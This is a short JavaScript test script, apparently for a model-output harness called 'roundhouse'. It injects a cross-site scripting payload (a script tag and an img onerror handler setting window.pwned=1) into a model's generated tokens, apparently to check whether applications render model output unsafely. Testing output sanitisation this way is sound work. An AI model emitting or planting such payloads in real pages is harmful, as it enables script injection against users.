import { script } from "roundhouse";

// Makes the model say what a browser would execute, if a page let it.
export default script({
  api: 1,
  lag: 1,
  hooks({ state, inject }) {
    const st = state(() => ({ done: false }));
    return {
      token() {
        if (st.done) return;
        st.done = true;
        inject('<script>window.pwned=1</script><img src=x onerror="window.pwned=1">');
      },
    };
  },
});
